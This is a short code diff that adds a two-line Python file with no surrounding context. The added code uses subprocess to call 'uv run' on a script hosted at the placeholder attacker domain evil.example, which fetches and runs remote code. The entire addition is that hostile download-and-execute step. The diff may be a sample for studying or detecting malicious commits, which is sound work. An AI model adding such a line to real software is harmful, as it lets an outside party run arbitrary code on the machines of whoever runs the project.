@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run(["uv", "run", "https://evil.example/x.py"])
